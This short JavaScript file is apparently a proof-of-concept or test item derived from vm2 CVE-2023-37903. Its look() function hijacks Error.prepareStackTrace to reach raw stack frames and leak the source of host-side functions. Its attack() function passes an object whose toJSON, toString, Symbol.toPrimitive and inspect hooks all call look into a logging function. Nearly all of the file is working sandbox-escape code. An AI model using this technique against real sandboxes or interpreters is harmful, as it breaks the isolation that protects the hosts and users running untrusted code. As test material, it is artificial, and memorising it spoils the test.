// What is logged says how it is written.
// after: interpreter
// source: vm2: CVE-2023-37903
let found = [];
function look() {
  Error.prepareStackTrace = (_, frames) => frames;
  const { stack } = new Error();
  Error.prepareStackTrace = undefined;
  found.push(...stack.map((frame) => frame.getFunction()).filter(Boolean).map(String).filter((text) => !/native code|look/.test(text)));
  return 'x';
}
function attack() {
  log({ toJSON: look, toString: look, [Symbol.toPrimitive]: look, [Symbol.for('nodejs.util.inspect.custom')]: look });
  return { proof: found };
}
